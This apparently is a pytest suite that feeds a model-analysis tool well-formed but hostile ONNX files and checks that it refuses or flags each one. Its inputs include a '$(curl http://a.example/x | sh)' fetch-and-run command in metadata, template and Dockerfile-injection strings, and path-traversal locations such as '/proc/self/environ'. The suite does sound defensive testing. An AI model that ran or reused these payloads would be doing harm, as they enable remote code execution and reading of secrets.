"""Models that are well-formed protobuf and mean harm, given to the whole analysis.

Each ends in the error or the finding that is written beside it. The canary lies beside the model's folder; the kernel
reports whether anyone opened it, guarded children included.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Protocol

import onnx
import pytest
from onnx import TensorProto, helper

from nimify.analysis.analysis import Analysis
from nimify.analysis.analyzer import AnalysisOptions, ModelAnalyzer
from nimify.errors import ModelError, UnsupportedModel
from nimify.formats.limits import MAX_TENSORS
from nimify.formats.wire import encode_message
from nimify.testing import models
from nimify.testing.graph_builder import GraphBuilder


class Canary(Protocol):
    """What the fixture of conftest.py gives."""

    path: Path
    folder: Path

    def watch(self) -> None: ...


Make = Callable[[], onnx.ModelProto | bytes]
OPSETS = [helper.make_opsetid("", 17), helper.make_opsetid("own", 1)]


def analyze(path: Path, *, trial: bool = False) -> Analysis:
    """Everything that `nimify analyze` does; the trial run where it adds something."""
    return ModelAnalyzer(AnalysisOptions(trial=trial, thorough=True)).analyze(path)


def written(make: Make, canary: Canary) -> Path:
    """The model in a file of the folder beside the canary."""
    made = make()
    path = canary.folder / "model.onnx"
    path.write_bytes(made if isinstance(made, bytes) else made.SerializeToString())
    return path


def changed(change: Callable[[onnx.ModelProto], object]) -> Make:
    """A small sound model with one thing changed."""

    def make() -> onnx.ModelProto:
        model = models.tiny()
        change(model)
        return model

    return make


def graph_of(*nodes: onnx.NodeProto, functions: tuple[onnx.FunctionProto, ...] = ()) -> Make:
    """A model from x to y of these nodes."""

    def make() -> onnx.ModelProto:
        inputs = [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch", 4])]
        outputs = [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["batch", 4])]
        graph = helper.make_graph(list(nodes), "hostile", inputs, outputs)
        return helper.make_model(graph, opset_imports=OPSETS, functions=functions, ir_version=10)

    return make


def node(kind: str, source: str, result: str, domain: str = "") -> onnx.NodeProto:
    return helper.make_node(kind, [source], [result], domain=domain)


def nested(depth: int) -> Make:
    """Conditions inside each other: a graph of a node of an attribute of a graph, and so on."""

    def make() -> bytes:
        model = models.tiny()
        graph = model.graph.SerializeToString()
        for _ in range(depth):
            graph = encode_message(1, encode_message(5, encode_message(6, graph)))
        return bytes(model.SerializeToString() + encode_message(7, graph))

    return make


def function(name: str, *calls: str) -> onnx.FunctionProto:
    """A function of domain `own` that applies functions of that domain, one after the other."""
    steps = [
        node(call, f"v{index}", f"v{index + 1}", "" if call == "Relu" else "own") for index, call in enumerate(calls)
    ]
    return helper.make_function("own", name, ["v0"], [f"v{len(calls)}"], steps, OPSETS)


def too_many_weights() -> onnx.ModelProto:
    model = models.tiny()
    tensor = TensorProto(dims=[0], data_type=TensorProto.FLOAT).SerializeToString()
    model.graph.MergeFromString(encode_message(5, tensor) * (MAX_TENSORS + 1))
    return model


def sparse_input(model: onnx.ModelProto) -> None:
    model.graph.input[0].type.sparse_tensor_type.elem_type = TensorProto.FLOAT


def metadata(value: str) -> Make:
    return changed(lambda model: model.metadata_props.append(onnx.StringStringEntryProto(key="note", value=value)))


REFUSED: dict[str, tuple[Make, str]] = {
    "no graph": (changed(lambda model: model.ClearField("graph")), "it has no graph"),
    "no outputs": (changed(lambda model: model.graph.ClearField("output")), "its graph has no outputs"),
    "two inputs of one name": (changed(lambda model: model.graph.input.append(model.graph.input[0])), "two inputs"),
    "subgraphs a thousand deep": (nested(1000), "nests more than 16 subgraphs"),
    "an axis of 2^62": (changed(lambda m: set_axis(m, 1 << 62)), "is declared with at least"),
    "a negative axis of a weight": (changed(lambda m: add_weight(m, [-4])), "negative dimension"),
    "a weight of 2^124 elements": (changed(lambda m: add_weight(m, [1 << 62, 1 << 62])), "damaged"),
    "more tensors than allowed": (too_many_weights, "tensors"),
    "a sparse input": (changed(sparse_input), "sparse"),
    "a sequence": (models.sequence_output, "sequence"),
    "an optional": (models.optional_output, "optional"),
    "a map": (models.map_input, "map"),
    "a hundred megabytes of metadata": (metadata("a" * 100_000_000), "metadata"),
}


def set_axis(model: onnx.ModelProto, length: int) -> None:
    model.graph.input[0].type.tensor_type.shape.dim[1].dim_value = length


def add_weight(model: onnx.ModelProto, dims: list[int]) -> None:
    model.graph.initializer.append(TensorProto(name="w", dims=dims, data_type=TensorProto.FLOAT))


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_served_is_an_error_on_one_line(name: str, canary: Canary) -> None:
    """The file is read and refused, with the reason."""
    make, sentence = REFUSED[name]
    path = written(make, canary)
    canary.watch()

    with pytest.raises(ModelError, match=sentence) as caught:
        analyze(path)

    assert "\n" not in str(caught.value)
    assert len(str(caught.value)) < 1000


def bomb(operator: str) -> Make:
    """A tensor of a trillion elements from a few bytes, of which one number comes out."""

    def make() -> onnx.ModelProto:
        graph = GraphBuilder("bomb")
        x = graph.input("x", "FP32", ["batch", 1])
        huge = graph.constant([1 << 20, 1 << 20], "int64")
        one = graph.op("ReduceMax", x)
        wide = graph.op(operator, one, huge)
        graph.output(graph.op("Add", x, graph.op("ReduceMax", wide, keepdims=0), out="y"), "FP32", ["batch", 1])
        return graph.model()

    return make


def sized_by_data() -> onnx.ModelProto:
    """As many zeros as the input says."""
    graph = GraphBuilder("zeros")
    x = graph.input("x", "INT64", [1])
    wide = graph.op("ConstantOfShape", x)
    graph.output(graph.op("ReduceMax", wide, keepdims=1, out="y"), "FP32", [1])
    return graph.model()


MULTIPLYING = tuple(function(f"L{level}", *([f"L{level + 1}" if level < 29 else "Relu"] * 10)) for level in range(30))

FOUND: dict[str, tuple[Make, str]] = {
    "a circle": (graph_of(node("Relu", "b", "a"), node("Relu", "a", "b"), node("Relu", "b", "y")), "not-inferred"),
    "one name for two values": (graph_of(node("Relu", "x", "y"), node("Tanh", "x", "y")), "not-inferred"),
    "a value from nowhere": (graph_of(node("Relu", "lost", "y")), "not-inferred"),
    "a function that calls itself": (
        graph_of(node("A", "x", "y", "own"), functions=(function("A", "B"), function("B", "A"))),
        "not-inferred",
    ),
    "functions that multiply": (graph_of(node("L0", "x", "y", "own"), functions=MULTIPLYING), "not-inferred"),
    "an unknown operator": (graph_of(node("Nothing", "x", "y")), "versions.not-here"),
    "as much as the input says": (sized_by_data, "structure.gaps"),
    "an operator set of the future": (changed(lambda m: set_opset(m, 999)), "versions."),
    "an IR of the future": (changed(lambda m: setattr(m, "ir_version", 99)), "versions."),
    "an operator of a stranger": (graph_of(node("Own", "x", "y", "own")), "onnx.custom-operators"),
    "an operator that runs Python": (graph_of(node("PyOp", "x", "y", "ai.onnx.contrib")), "onnx.custom-operators"),
    "metadata with a template": (metadata("{{ config.__class__ }}\n{% raw %}"), "safety.metadata-code"),
    "metadata with a command": (metadata("$(curl http://a.example/x | sh)"), "safety.metadata-"),
}


def set_opset(model: onnx.ModelProto, version: int) -> None:
    model.opset_import[0].version = version


@pytest.mark.parametrize("name", FOUND)
def test_what_is_suspicious_is_a_finding(name: str, canary: Canary) -> None:
    """The analysis goes on, and says what it found."""
    make, code = FOUND[name]
    path = written(make, canary)
    canary.watch()

    analysis = analyze(path)

    assert any(code in finding.code for finding in analysis.all_findings)
    assert all("\n" not in finding.message and len(finding.message) < 1000 for finding in analysis.all_findings)


@pytest.mark.parametrize("operator", ["Expand", "Tile"])
def test_a_shape_bomb_is_counted_and_not_run_to_its_end(operator: str, canary: Canary) -> None:
    """Four terabytes are a figure in the estimate; the trial run ends at its limit, or says why it cannot be run."""
    path = written(bomb(operator), canary)
    canary.watch()

    try:
        analysis = analyze(path, trial=True)
    except ModelError as error:
        assert "\n" not in str(error)  # noqa: PT017 - ONNX Runtime may refuse it, or give up while it runs
        return

    assert analysis.memory is not None
    assert analysis.memory.one.total_bytes > 1 << 42
    assert "trial.no-inputs" in {finding.code for finding in analysis.findings}


def test_a_model_without_inputs_is_refused(canary: Canary) -> None:
    """It is harmless, but no request can ask it anything."""
    graph = GraphBuilder("constant")
    graph.output(graph.op("Identity", graph.constant([1.0]), out="y"), "FP32", [1])
    path = written(graph.model, canary)
    canary.watch()

    with pytest.raises(UnsupportedModel, match="it has no inputs"):
        analyze(path)


@pytest.mark.parametrize(
    "name",
    ["a:b/0", "a b", "\N{GREEK SMALL LETTER ALPHA}", '"; }\nRUN touch x', "{{ x }}", "a" * 300, "../x", "*a: &b"],
)
def test_any_name_of_a_tensor_is_analysed_and_run(name: str, canary: Canary) -> None:
    """Names of inputs, outputs and axes are data, in the guarded child too."""
    graph = GraphBuilder(name)
    graph.input(name, "FP32", [name, 4])
    graph.output(graph.op("Relu", name, out=f"{name}!"), "FP32", [name, 4])
    path = models.save(graph.model(), canary.folder / "model.onnx")
    canary.watch()

    analysis = analyze(path, trial=True)

    assert analysis.golden
    assert analysis.memory is not None


EXTERNAL: dict[str, tuple[dict[str, str], str]] = {
    "above": ({"location": "../canary.bin"}, "outside the model's folder"),
    "above, around a corner": ({"location": "data/../../canary.bin"}, "outside the model's folder"),
    "absolute": ({"location": "{canary}"}, "outside the model's folder"),
    "the environment": ({"location": "/proc/self/environ"}, "outside the model's folder"),
    "a Windows drive": ({"location": "C:/canary.bin"}, "outside the model's folder"),
    "backslashes": ({"location": "..\\canary.bin"}, "not a plain file name"),
    "memory of the engine": ({"location": "*/_ORT_MEM_ADDR_/*"}, "not a plain file name"),
    "a line break": ({"location": "canary.bin\n"}, "not a plain file name"),
    "no location": ({"location": ""}, "no location"),
    "a missing file": ({"location": "missing.bin"}, "is missing"),
    "the model itself": ({"location": "model.onnx"}, "the model file itself"),
    "the folder": ({"location": "."}, "outside the model's folder"),
    "a negative offset": ({"offset": "-1"}, "not a whole number"),
    "an offset beyond the end": ({"offset": "1000000"}, "ends at byte"),
    "a length of 2^62": ({"length": str(1 << 62)}, "not a whole number|bytes"),
    "a length in words": ({"length": "all"}, "not a whole number"),
    "a linked file": ({"location": "link.bin"}, "a symbolic link"),
    "a file with two names": ({"location": "twin.bin"}, "a hard link"),
    "a file behind a linked folder": ({"location": "folder/canary.bin"}, "cannot be reached safely"),
    "a device": ({"location": "zero"}, "a symbolic link"),
}


@pytest.mark.parametrize("name", EXTERNAL)
def test_weights_are_read_from_the_models_own_folder_only(name: str, canary: Canary) -> None:
    """Each way out is refused before the file at its end is opened, the trial run left to run if it could."""
    entries, sentence = EXTERNAL[name]
    path = with_external_data(canary, {key: value.format(canary=canary.path) for key, value in entries.items()})
    canary.watch()

    with pytest.raises(ModelError, match=sentence) as caught:
        analyze(path, trial=True)

    assert "\n" not in str(caught.value)


def test_keys_that_nobody_knows_change_nothing(canary: Canary) -> None:
    """`__class__` and `basepath` lead nowhere; the engine may refuse the model for them."""
    path = with_external_data(canary, {"__class__": "os", "basepath": str(canary.path.parent)})
    canary.watch()

    try:
        analysis = analyze(path, trial=True)
    except ModelError as error:
        assert "\n" not in str(error)  # noqa: PT017 - ONNX Runtime decides
    else:
        assert [file.location for file in analysis.model.files] == ["model.onnx", models.DATA_FILE]


def with_external_data(canary: Canary, entries: dict[str, str]) -> Path:
    """A model whose first weight is described by these entries, in a folder with ways out of it."""
    (canary.folder / "link.bin").symlink_to(canary.path)
    (canary.folder / "folder").symlink_to(canary.path.parent)
    (canary.folder / "zero").symlink_to("/dev/zero")
    (canary.folder / "twin.bin").hardlink_to(canary.path)
    path = models.save(models.external_data(), canary.folder / "model.onnx")
    model = onnx.load(str(path), load_external_data=False)
    tensor = model.graph.initializer[0]
    old = {entry.key: entry.value for entry in tensor.external_data}
    del tensor.external_data[:]
    for key, value in {**old, **entries}.items():
        tensor.external_data.add(key=key, value=value)
    path.write_bytes(model.SerializeToString())
    return path
